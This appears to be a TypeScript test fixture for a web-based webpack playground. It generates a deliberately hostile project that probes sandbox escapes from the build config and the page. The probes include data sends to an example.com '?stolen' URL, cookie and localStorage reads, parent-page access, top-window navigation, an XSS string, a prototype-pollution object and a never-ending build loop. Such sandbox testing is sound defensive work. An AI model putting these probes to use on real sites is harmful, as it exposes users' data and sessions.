import type { Project } from "../../src/playground/project/project";

/**
 * Ways out of a sandbox, as code that runs in a worker and in a page. Each either throws, or returns what it has
 * obtained.
 */
const ATTEMPTS = `
const attempts = {
  fetch: () => fetch(SITE + "/errors.json").then((response) => "status " + response.status),
  "fetch without reading": () => fetch(SITE + "/errors.json", { mode: "no-cors" }).then(() => "answered"),
  "fetch elsewhere": () => fetch("https://example.com/?stolen", { mode: "no-cors" }).then(() => "answered"),
  XMLHttpRequest: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", SITE + "/errors.json");
    request.onload = () => resolve("status " + request.status);
    request.onerror = () => reject(new Error("no answer"));
    request.send();
  }),
  WebSocket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket("wss://example.com/");
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("no connection"));
  }),
  EventSource: () => new Promise((resolve, reject) => {
    const source = new EventSource(SITE + "/errors.json");
    source.onopen = () => resolve("open");
    source.onerror = () => reject(new Error("no connection"));
  }),
  indexedDB: () => new Promise((resolve, reject) => {
    const request = indexedDB.open("x");
    request.onsuccess = () => resolve("open");
    request.onerror = () => reject(request.error);
  }),
  caches: () => caches.keys().then((names) => "names " + names),
  "origin private files": () => navigator.storage.getDirectory().then(() => "a folder"),
  "an import": () => import(SITE + "/sw.js").then(() => "imported"),
};
async function tryAll(more) {
  self.BroadcastChannel && new BroadcastChannel("secret").postMessage("stolen");
  const found = {};
  for (const [name, attempt] of Object.entries({ ...attempts, ...more })) {
    try {
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 3000));
      found[name] = String(await Promise.race([attempt(), late]));
    } catch (error) {
      found[name] = "refused: " + error;
    }
  }
  return found;
}
`;

/** Returns a project that tries all ways out, from the configuration and from the built page. */
export const hostileProject = (site: string): Project => ({
  "webpack.config.js": `
const { sources } = require("webpack");
const SITE = ${JSON.stringify(site)};
${ATTEMPTS}
const { postMessage } = self;
module.exports = async () => {
  const found = await tryAll({
    importScripts: () => (importScripts("https://example.com/x.js"), "loaded"),
    "a worker of the site": () => new Promise((resolve, reject) => {
      const worker = new Worker(SITE + "/sw.js");
      worker.onerror = () => reject(new Error("did not start"));
    }),
    cookies: () => document.cookie,
    storage: () => localStorage.getItem("secret"),
  });
  for (const data of [{ version: "<img src=x onerror=alert(1)>" }, { id: 1, failure: {} }, { __proto__: { polluted: 1 } }]) {
    postMessage.call(self, data);
  }
  return {
    mode: "development",
    devtool: false,
    plugins: [{
      apply: (compiler) => compiler.hooks.thisCompilation.tap("found", (compilation) => {
        compilation.hooks.processAssets.tap("found", () => {
          compilation.emitAsset("found.json", new sources.RawSource(JSON.stringify(found)));
        });
      }),
    }],
  };
};
`,
  "src/index.js": `
const SITE = ${JSON.stringify(site)};
${ATTEMPTS}
tryAll({
  "the page around": () => parent.document.title,
  "names in the page around": () => Object.keys(parent.localStorage),
  cookies: () => document.cookie,
  storage: () => localStorage.getItem("secret"),
  "storage of the tab": () => sessionStorage.length,
  "service workers": () => navigator.serviceWorker.getRegistrations().then((all) => "registered " + all.length),
  "another window": () => {
    const opened = open("https://example.com/");
    if (!opened) throw new Error("no window");
    return "opened";
  },
  "the whole tab": () => {
    top.location.href = "https://example.com/";
    return "left";
  },
  "a frame of the site": () => new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.src = SITE + "/playground/";
    frame.onload = () => reject(new Error("no access to " + frame.contentWindow));
    document.body.append(frame);
    setTimeout(() => resolve(frame.contentDocument.title), 1000);
  }),
}).then((found) => {
  console.log("found " + JSON.stringify(found));
  for (const data of [{ version: 1 }, { id: 1, output: new Map() }, { level: "log", text: {} }]) parent.postMessage(data, "*");
  const form = document.createElement("form");
  form.action = "https://example.com/";
  document.body.append(form);
  form.submit();
  console.log("tried to leave");
  setTimeout(() => { location.href = "https://example.com/?stolen"; }, 0);
});
`,
});

/** A project whose build never ends. */
export const LOOPING_PROJECT: Project = {
  "src/index.js": "",
  "webpack.config.js": "for (;;);",
};
